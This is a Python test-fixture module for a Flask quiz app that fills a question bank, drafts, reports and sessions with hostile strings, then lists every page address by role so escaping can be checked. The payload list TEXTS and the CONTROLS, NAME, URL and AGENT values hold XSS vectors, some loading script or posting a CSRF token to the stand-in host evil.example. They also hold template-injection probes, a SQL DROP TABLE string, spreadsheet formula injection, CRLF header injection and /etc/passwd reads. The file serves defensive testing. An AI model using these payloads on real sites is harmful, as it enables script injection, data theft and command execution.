"""Texts that would do something if a page let them, and a site that is full of them.

Each text holds the word ZQXZQ, which no code or token holds by chance.
"""

# ruff: noqa: E501 - texts stand one a line

from __future__ import annotations

from dataclasses import dataclass, field, replace

from flask import Flask
from sqlalchemy import select

from quizapp.accounts import service as accounts
from quizapp.accounts.sessions import new_token
from quizapp.banks.authorship.service import set_visibility
from quizapp.banks.models import Bank, BankMedium, Card
from quizapp.banks.notes import NOTE_TYPES
from quizapp.banks.visibility import Visibility
from quizapp.db import db
from quizapp.teaching.writing.yaml_writer import note_lines
from quizapp.web import unit
from quizapp.web.access import Role
from quizapp.web.clock import now
from tests.factories import quizzes, reports, study, teaching
from tests.factories.accounts import create_user
from tests.factories.jobs import create_job
from tests.factories.memory import drill
from tests.factories.people import Person, create_person

MARK = "ZQXZQ"
TEXTS = (
    "<script>alert('ZQXZQ')</script> <ScRiPt src=//evil.example/ZQXZQ></sCrIpT >",
    "<img src=x onerror=alert('ZQXZQ')> <img/src='x'/onerror=alert(1)//ZQXZQ",
    "<svg onload=alert('ZQXZQ')><animate onbegin=alert(1) attributeName=x><a xlink:href=javascript:alert(1)>ZQXZQ</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;ZQXZQ'></math>",
    "<style>*{display:none}ZQXZQ</style><link rel=stylesheet href=//evil.example/ZQXZQ><meta http-equiv=refresh content=0;//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>ZQXZQ'></iframe><object data=//evil.example/ZQXZQ></object><embed src=//evil.example>",
    "<form action=//evil.example/ZQXZQ><input name=csrf_token value=ZQXZQ><button formaction=javascript:alert(1)>ZQXZQ</button></form>",
    "<base href=//evil.example/ZQXZQ><b style='position:fixed' id=main name=csrf_token class=flash>ZQXZQ</b>",
    "</p></main></body></html><h1>ZQXZQ</h1></textarea></title></select></option></code></script><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>ZQXZQ'></noscript><!-- ZQXZQ --!><img src=x onerror=alert(1)>-->",
    "[ZQXZQ](javascript:alert(1)) [ZQXZQ](JaVaScRiPt:alert(1)) [ZQXZQ](&#106;avascript:alert(1)) [ZQXZQ](java&#10;script:alert(1))",
    "[ZQXZQ](data:text/html;base64,PHNjcmlwdD4=) [ZQXZQ](vbscript:x) [ZQXZQ](file:///etc/passwd) [ZQXZQ](//evil.example/ZQXZQ) <javascript:alert(1)>",
    "![ZQXZQ](https://evil.example/ZQXZQ.png) ![ZQXZQ](//evil.example/ZQXZQ.png) ![ZQXZQ](/media/../account/delete) ![ZQXZQ](data:image/svg+xml;base64,PHN2Zz4=)",
    "![ZQXZQ\" onerror=\"alert(1)](/media/ZQXZQ.png \"ZQXZQ' onload='x\") [ZQXZQ](https://e.example/ZQXZQ \"t' onmouseover='alert(1)\")",
    "[ZQXZQ](https://e.example/\"onmouseover=alert(1)) [ZQXZQ][1] <https://e.example/ZQXZQ?a=1&b='\"> `ZQXZQ <b>` *ZQXZQ <i onclick=x>*",
    "$\\text{<img src=x onerror=alert('ZQXZQ')>}$ $\\href{javascript:alert(1)}{ZQXZQ}$ $\\class{flash}{ZQXZQ}$ $\\style{color:red}{ZQXZQ}$ $\\id{main}{ZQXZQ}$",
    "$\\text{</mtext></math><script>alert('ZQXZQ')</script>}$ $\\unicode{x3c}script>ZQXZQ$ $\\input{/etc/passwd} ZQXZQ$ $\\def\\a{\\a\\a}\\a ZQXZQ$",
    "{{ 7*7 }} {{ config.SECRET_KEY }}ZQXZQ {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %> {{request.application.__globals__}}",
    "%s %(ZQXZQ)s %n {0.__class__.__mro__} {subject} {value} {attribute} \\ZQXZQ ZQXZQ\\\\' ZQXZQ\\\" '; DROP TABLE user; -- ZQXZQ",
    "=HYPERLINK(\"https://evil.example/ZQXZQ\") +ZQXZQ -ZQXZQ @SUM(ZQXZQ) =cmd|' /C calc'!ZQXZQ ＝ZQXZQ ＋ZQXZQ ＠ZQXZQ",
    "مرحبا ZQXZQ שלום \u200bZ\u200cQ\u200d ZQXZQ\u00ad \ufe0f\u034f\u200e\u200f ZQXZQ Z̴̷Q̸̶̷̸̵̴" + "\u0301\u0323\u0489" * 40,
    "ZQXZQ" + "W" * 400 + " ZQXZQ" + "9" * 300 + " https://e.example/ZQXZQ/" + "a/" * 150,
    "&lt;script&gt;ZQXZQ&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;ZQXZQ &amp;lt; &#x3c;script&#x3e; \\<script>ZQXZQ",
    "\"'><script>alert(1)</script>ZQXZQ `'\"--></style></script><script>alert(1)</script>ZQXZQ \" autofocus onfocus=alert(1) x=\"ZQXZQ",
    "<x contenteditable onfocus=alert(1) tabindex=1>ZQXZQ <details open ontoggle=alert(1)>ZQXZQ <video><source onerror=alert(1)>ZQXZQ <marquee onstart=alert(1)>ZQXZQ",
    "# ZQXZQ heading > ZQXZQ quoted 1. ZQXZQ | ZQXZQ | ~~ZQXZQ~~ ^ZQXZQ^ ~ZQXZQ~ ***ZQXZQ*** ___ZQXZQ___ [ZQXZQ]: javascript:alert(1)",
)  # fmt: skip
# What no file may hold, and a form lets through or takes out.
CONTROLS = "ZQXZQ \u202eabc\u2066def\u2069 \x00\x07\x1b[31mred\x1b]0;title\x07 \u2028ZQXZQ\u2029 \ufeff \r\nSet-Cookie: ZQXZQ=1\r\n\r\nZQXZQ"
NAME = "ZQXZQ\"><img src=x onerror=alert(1)>'; filename*=UTF-8''evil.html; x=\"é\r\nSet-Cookie: a=b.yaml"
URL = "https://e.example/ZQXZQ'onclick='alert(1)?{{7*7}}&x=1#<ZQXZQ>".replace("<", "%3C").replace(">", "%3E")
AGENT = 'Mozilla/5.0 ZQXZQ<script>alert(1)</script>" onload="x'
ADDRESS = "zq'<b>&\"@example.org"
GROUPS = [TEXTS[start : start + 4] for start in range(0, len(TEXTS), 4)]


def hostile_bank(slug: str) -> bytes:
    """Return a sound bank in which every text of every type of note is hostile."""
    lines = ["format: 1", f"bank: {slug}"]
    head = {
        "title": TEXTS[0][:100],
        "description": "\n\n".join(TEXTS[:6]),
        "license": TEXTS[1],
        "notice": TEXTS[2],
        "authors": list(TEXTS[3:6]),
        "sources": {"s": {"title": TEXTS[6], "author": TEXTS[7], "url": URL}},
        "pools": {"p": [{"text": f"pooled {text}", "why": text} for text in TEXTS[:3]]},
    }
    lines += [line[2:] for line in note_lines(head)]
    lines[2] = lines[2].lstrip("- ")
    notes = [
        line
        for number, group in enumerate(GROUPS)
        for note in _notes(number, group)
        for line in note_lines(note)
    ]
    return "\n".join([*lines, "notes:", *(f"  {line}" for line in notes), ""]).encode()


def _notes(number: int, group: tuple[str, ...]) -> list[dict[str, object]]:
    block, line = "\n\n".join(group), " ".join(group)

    def wrong(*names: str) -> list[dict[str, str]]:
        return [{"text": f"{name} {line}", "why": block, "harm": "2"} for name in names]

    def common(kind: str) -> dict[str, object]:
        return {
            "id": f"{kind}-{number}",
            "type": kind,
            "explanation": block,
            "caveat": block,
            "objective": line,
            "cite": [{"source": "s", "at": group[0][:190], "fact": group[-1][:190]}],
            "tags": [text[:60] for text in group],
            "image": "media/a.png",
            "alt": line,
            "credit": line,
            "reviewed_by": list(group),
        }

    asked = f"{block}\n\nWhich is it?"
    return [
        {
            **common("fact"), "question": asked, "answer": f"right {line}", "accept": list(group), "reverse": block,
            "reverse_answer": line, "distractors": wrong("one", "two"), "distractors_from": ["p"],
        },
        {
            **common("cloze"), "text": f"{block}\n\nIt is {{{{c1::hidden::{group[0][:30].replace('{', '').replace('}', '')}}}}}.",
            "distractors": {"c1": wrong("one", "two")}, "accept": {"c1": list(group)},
        },
        {**common("choice"), "stem": asked, "key": {"text": f"right {line}", "why": block}, "distractors": wrong("one", "two"), "card": "yes"},
        {**common("multiple"), "stem": asked, "correct": wrong("one"), "incorrect": wrong("two")},
        {
            **common("set"), "name": line, "members": wrong("one", "two"), "non_members": wrong("three", "four"),
            "ask": asked, "ask_all": asked,
        },
        {
            **common("matrix"), "subjects": {"a": f"A {line}", "b": f"B {line}"},
            "rows": [{
                "id": "r", "attribute": line, "ask": f"{{subject}} {block}\n\nWhich is it?", "ask_subject": f"{{value}} {block}\n\nWhich is it?",
                "a": {"text": f"one {line}", "why": block}, "b": {"text": f"two {line}"}, "explanation": block, "caveat": block, "distractors": wrong("three"),
            }],
        },
    ]  # fmt: skip


@dataclass
class Hostile:
    """The site: who looks at it, by role, and every address that shows something hostile, by role."""

    people: dict[Role, Person] = field(default_factory=dict)
    addresses: dict[Role, list[str]] = field(default_factory=dict)


def create_hostile_site(app: Flask) -> Hostile:
    """Fill the site: a bank, drafts, jobs, reports, drills, quizzes, people, all full of hostile texts."""
    source, slug, made = hostile_bank("sample"), "sample", Hostile()
    teaching.publish_draft(
        create_user(ADDRESS, role=Role.INSTRUCTOR), source, media={"media/a.png": teaching.picture()}
    )
    bank_id = db.session.scalars(select(Bank.id).where(Bank.slug == slug)).one()
    unit.run(lambda: set_visibility(bank_id, Visibility.EVERYONE))
    for role in Role:
        made.people[role] = create_person(app, role, name=role.name.lower())
    owner = made.people[Role.INSTRUCTOR].user_id
    assert owner is not None
    reports.own(owner)
    # A second version, so that there is something to compare; a draft of each kind; a job that says what it is about.
    banks_source = source.replace(b"It is ", b"It is now ")
    teaching.publish_draft(owner, banks_source, media={"media/a.png": teaching.picture()})
    for person in made.people.values():
        made.addresses[person.role] = list(_addresses(person, slug, owner, source))
    return made


def _addresses(person: Person, slug: str, owner: int, source: bytes) -> list[str]:
    cards = db.session.scalars(
        select(Card.id).join(Bank, Bank.id == Card.bank_id).where(Bank.slug == slug)
    ).all()
    drilled = study.cards_of(slug)[:: 1 + len(study.cards_of(slug)) // 6]
    picture = db.session.scalars(select(BankMedium.sha256).limit(1)).one()
    found = [
        "/",
        "/help",
        "/help/banks",
        "/cards",
        "/cards?q=ZQXZQ",
        f"/cards?tag={MARK}",
        "/study",
        "/quizzes",
        f"/banks/{slug}",
    ]
    found += (
        [f"/cards?page={page}" for page in (2,)]
        + [f"/cards/{card}" for card in drilled]
        + [f"/media/{picture}"]
    )
    if person.learner is None:
        return found
    learner = person.learner
    drill(learner, drilled[0])
    report = reports.report_card(learner, drilled[1], " ".join(TEXTS)[:1500] + CONTROLS)
    reports.answer(report, owner, " ".join(TEXTS)[:1500])
    unit.run(
        lambda: accounts.open_session(
            token=new_token(), learner_id=learner.id, user_id=person.user_id, agent=AGENT, now=now()
        )
    )
    begun = quizzes.start(learner, count=14, banks=(slug,))
    for item in quizzes.items(learner, begun)[::2]:
        quizzes.answer(learner, begun, item.position, quizzes.bad_answer(item))
    done = quizzes.start(learner, count=14, banks=(slug,), mode="test")
    quizzes.answer_all(learner, done, wrong=range(1, 15, 2))
    quizzes.finish(learner, done)
    sitting = study.start(replace(learner, type_answers=True), card_ids=[drilled[2]], beyond_limits=True)
    found += [f"/quizzes/{begun}/{position}" for position in range(1, 15, 3)] + [
        f"/quizzes/{done}/{position}" for position in (1, 2)
    ]
    found += [
        f"/quizzes/{done}/result",
        f"/quizzes/{begun}/submit",
        "/history",
        "/progress",
        "/account",
        "/reports",
        "/export.json",
        "/export.zip",
    ]
    found += [
        f"/study/{sitting}",
        f"/study/{sitting}?turned=1&card={drilled[2]}&seen=0&typed=ZQXZQ%3Cimg%20src=x%20onerror=alert(1)%3E",
        f"/study/{sitting}/summary",
    ]
    found += [f"/cards/{cards[0]}/report?next=/ZQXZQ%22onclick=x"]
    if person.role < Role.INSTRUCTOR or person.user_id is None:
        return found
    broken = source.replace(b"question:", b"questiom ZQXZQ<script>:").replace(
        b"type: set", b"type: ZQXZQ<img>"
    )
    for content in (broken, source):
        draft = teaching.create_draft(
            person.user_id, content, name=NAME, media={"media/a.png": teaching.picture()}
        )
        address = f"/teach/drafts/{draft.code}"
        found += [address, *(f"{address}/{page}" for page in ("problems", "problems.txt", "notes"))]
    found += [f"{address}/{page}" for page in ("file", "edit", "settings", "preview/fact-0?shown=1")]
    found += [f"{address}/preview/{kind}-1?show=questions&shown=1" for kind in ("choice", "multiple", "set")]
    found += [f"{address}/notes/{kind}-{number}" for number, kind in enumerate(NOTE_TYPES)]
    job = create_job("check-draft", {}, title=f"Check {NAME}", user_id=person.user_id)
    found += [
        "/teach",
        f"/teach/banks/{slug}",
        f"/teach/banks/{slug}/compare",
        f"/teach/banks/{slug}/versions/1/bank.yaml",
    ]
    found += [
        f"/teach/banks/{slug}/versions/1/bank.zip",
        "/jobs",
        f"/jobs/{job}",
        "/teach/reports",
        f"/teach/banks/{slug}/reports",
    ]
    found += [f"/teach/banks/{slug}/reports/{key}" for key in ("fact-0", "cloze-0")]
    if person.role is Role.ADMINISTRATOR:
        found += [
            "/admin",
            "/admin/users",
            "/admin/users?q=zq",
            "/admin/banks",
            "/admin/jobs",
            "/admin/storage",
            f"/admin/users/{owner}",
        ]
    return found
